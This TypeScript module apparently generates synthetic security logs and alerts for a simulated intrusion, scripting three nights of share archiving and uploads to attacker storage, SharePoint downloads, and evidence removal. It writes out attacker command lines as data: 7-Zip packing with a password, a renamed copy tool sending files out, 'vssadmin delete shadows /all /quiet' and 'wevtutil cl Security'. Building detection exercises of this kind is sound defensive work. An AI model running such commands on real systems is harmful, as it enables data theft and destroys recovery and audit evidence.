import { intruder, intruderNames } from '../company/addresses.ts';
import type { Host } from '../company/hosts.ts';
import {
  accountEntity,
  fileEntity,
  hostEntity,
  ipEntity,
  processEntity,
  raiseAlert,
} from '../events/alert.ts';
import { securityEvent } from '../events/directory.ts';
import { connect, touchFile } from '../events/endpoint.ts';
import { recordSession } from '../events/firewall.ts';
import { fileAction } from '../events/office.ts';
import { startProcess } from '../events/process.ts';
import type { Process, Scene } from '../events/scene.ts';
import { userAgents } from '../events/signin.ts';
import { documentNames } from '../noise/documents.ts';
import { at, day, hour, minute, second } from '../period.ts';
import { controller, files, financeChief, stolenService } from './cast.ts';

const nights = ['2025-11-25T00:40:00', '2025-11-26T00:40:00', '2025-11-27T00:40:00'].map(at);
const folders = ['Engineering', 'Finance', 'Management'];
const tool = 'C:\\ProgramData\\Intel\\wusync.exe';

/**
 * Three nights from 25 to 27 November: the file server's shares are packed with a password and sent,
 * about 70 GB, to rented storage by a renamed copy tool; documents are also taken from SharePoint.
 * Then traces are removed. Gives the alerts.
 */
export function exfiltrate(scene: Scene, implant: Process, controllerShell: Process): string[] {
  let copy = implant;
  for (const [index, night] of nights.entries()) {
    copy = packAndSend(scene, implant, night, folders[index] ?? '');
  }
  downloadFromSharePoint(scene);
  coverTracks(scene, implant, controllerShell);
  return [raiseVolume(scene, copy), raiseCleared(scene)];
}

function packAndSend(scene: Scene, implant: Process, night: number, folder: string): Process {
  const { session } = implant;
  const archive = `C:\\ProgramData\\Intel\\logs\\${folder.slice(0, 2).toLowerCase()}.7z`;
  const shell = startProcess(scene, {
    at: night - 55 * minute,
    session,
    parent: implant,
    image: 'cmd.exe',
    commandLine: `cmd.exe /c "C:\\Program Files\\7-Zip\\7z.exe" a -mx1 -v900m -hpN0rthStar! ${archive} D:\\Shares\\${folder}`,
  });
  const packer = startProcess(scene, {
    at: night - 55 * minute + 120_000,
    session,
    parent: shell,
    image: '7z.exe',
    commandLine: `"C:\\Program Files\\7-Zip\\7z.exe" a -mx1 -v900m -hpN0rthStar! ${archive} D:\\Shares\\${folder}`,
  });
  for (let volume = 1; volume <= 24; volume++) {
    touchFile(scene, packer, {
      at: night - 54 * minute + volume * 2 * minute,
      path: `${archive}.${String(volume).padStart(3, '0')}`,
      sizeBytes: 943_718_400,
    });
  }
  const copy = startProcess(scene, {
    at: night - 30 * second,
    session,
    parent: implant,
    image: tool,
    commandLine: `${tool} copy C:\\ProgramData\\Intel\\logs remote:nvk --config C:\\ProgramData\\Intel\\c.dat --transfers 6 --bwlimit 16M -q`,
  });
  send(scene, copy, night);
  return copy;
}

/** About three and a half hours of uploads; the summary adds up what each session sent. */
function send(scene: Scene, copy: Process, night: number): void {
  const perHour = new Map<number, { sent: number; sessions: number }>();
  for (let time = night; time < night + 3.5 * hour; ) {
    const seconds = scene.random.int(420, 780);
    const sent = seconds * scene.random.int(1_600_000, 2_100_000);
    connect(scene, copy, {
      at: time,
      ip: intruder.storage.ip,
      port: 443,
      name: intruderNames.storage,
    });
    const end = time + seconds * second;
    recordSession(scene, {
      at: time,
      host: files,
      ip: intruder.storage.ip,
      name: intruderNames.storage,
      seconds,
      sent,
      received: Math.round(sent / 190),
    });
    const bin = end - (end % hour);
    const sum = perHour.get(bin) ?? { sent: 0, sessions: 0 };
    perHour.set(bin, { sent: sum.sent + sent, sessions: sum.sessions + 1 });
    time = end + scene.random.int(1, 9) * second;
  }
  for (const [bin, { sent, sessions }] of perHour) {
    scene.recorder.add('NetworkSummary_CL', bin, {
      SourceHostName: files.name,
      SourceIP: files.ip,
      SourceZone: 'servers',
      DestinationZone: 'internet',
      DestinationCountry: intruder.storage.country,
      DestinationPort: 443,
      TopDestinationIP: intruder.storage.ip,
      SentBytes: sent,
      ReceivedBytes: Math.round(sent / 190),
      Sessions: sessions,
      DistinctDestinations: 1,
      _BinStartTime: bin,
    });
  }
}

function downloadFromSharePoint(scene: Scene): void {
  let time = at('2025-11-25T05:02:40');
  for (let count = 0; count < 260; count++) {
    time += scene.random.int(3, 9) * second;
    fileAction(scene, {
      at: time,
      operation: 'FileDownloaded',
      by: financeChief,
      ip: intruder.session.ip,
      userAgent: userAgents.linux,
      site: scene.random.pick(['Finance', 'Management']),
      folder: 'Shared Documents',
      file: `${scene.random.pick(documentNames)} ${scene.random.int(100, 9999)}.${scene.random.pick(['xlsx', 'pdf', 'docx'])}`,
      managed: false,
    });
  }
}

function coverTracks(scene: Scene, implant: Process, controllerShell: Process): void {
  const time = at('2025-11-27T04:18:25');
  const run = (parent: Process, when: number, commandLine: string): void => {
    startProcess(scene, {
      at: when,
      session: parent.session,
      parent,
      image: commandLine.split(' ')[0] ?? '',
      commandLine,
    });
  };
  run(implant, time, 'vssadmin.exe delete shadows /all /quiet');
  touchFile(scene, implant, { at: time + 30 * second, path: tool, action: 'FileDeleted' });
  run(implant, time + 70 * second, 'wevtutil.exe cl Security');
  clearLog(scene, files, implant, time + 71 * second);
  run(controllerShell, time + 3 * minute, 'wevtutil.exe cl Security');
  clearLog(scene, controller, controllerShell, time + 3 * minute + second);
}

function clearLog(scene: Scene, host: Host, by: Process, time: number): void {
  securityEvent(scene, time, {
    host,
    session: by.session,
    id: 1102,
    task: 104,
    activity: 'The audit log was cleared.',
    row: { EventSourceName: 'Microsoft-Windows-Eventlog', Level: '4' },
  });
}

function raiseVolume(scene: Scene, copy: Process): string {
  const host = hostEntity(files);
  const user = accountEntity(stolenService);
  const last = nights.at(-1) ?? 0;
  return raiseAlert(scene, {
    from: last - 2 * day,
    to: last + 4 * hour,
    name: 'Unusual amount of data sent to a country not seen before',
    severity: 'High',
    description: 'A server sent far more than at the same hour of other days, to a new country.',
    provider: 'ASI Scheduled Alerts',
    tactics: 'Exfiltration',
    techniques: ['T1567.002', 'T1048.002'],
    entities: [
      host,
      ipEntity(intruder.storage),
      { Type: 'dns', DomainName: intruderNames.storage },
      { ...fileEntity(tool, copy.program.sha256), Host: host },
      processEntity(copy, { Host: host, Account: user }),
    ],
    compromised: files.fqdn,
  });
}

function raiseCleared(scene: Scene): string {
  const time = at('2025-11-27T04:19:36');
  return raiseAlert(scene, {
    from: time,
    to: time + 2 * minute,
    name: 'Security event log cleared',
    severity: 'Medium',
    description: 'Event 1102 on two servers.',
    provider: 'ASI Scheduled Alerts',
    tactics: 'DefenseEvasion',
    techniques: ['T1070.001'],
    entities: [hostEntity(files), hostEntity(controller)],
    compromised: files.fqdn,
  });
}
